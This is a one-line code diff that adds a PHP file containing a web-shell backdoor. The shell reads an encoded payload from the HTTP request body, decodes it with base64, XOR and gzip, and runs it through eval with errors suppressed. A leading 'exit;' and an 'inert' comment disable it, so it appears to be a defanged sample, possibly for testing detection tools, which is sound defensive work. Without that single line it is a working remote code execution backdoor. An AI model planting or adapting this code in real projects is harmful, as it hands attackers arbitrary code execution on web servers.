@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $k="aa"; $kh="bb"; $p="x"; function x($t,$k){$c=strlen($k);$l=strlen($t);$o="";for($i=0;$i<$l;){for($j=0;($j<$c&&$i<$l);$j++,$i++){$o.=$t[$i]^$k[$j];}}return $o;} if(@preg_match("/$kh(.+)$k/",@file_get_contents("php://input"),$m)==1){@ob_start();@eval(@gzuncompress(@x(@base64_decode($m[1]),$k)));$o=@ob_get_contents();}
